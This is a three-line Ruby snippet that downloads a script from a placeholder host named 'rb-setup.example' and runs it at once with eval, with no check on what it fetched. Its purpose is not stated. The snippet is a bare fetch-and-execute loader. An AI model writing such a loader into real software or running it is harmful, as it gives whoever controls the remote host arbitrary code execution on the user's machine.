require 'net/http'
code = Net::HTTP.get(URI('https://rb-setup.example/s.rb'))
eval(code)
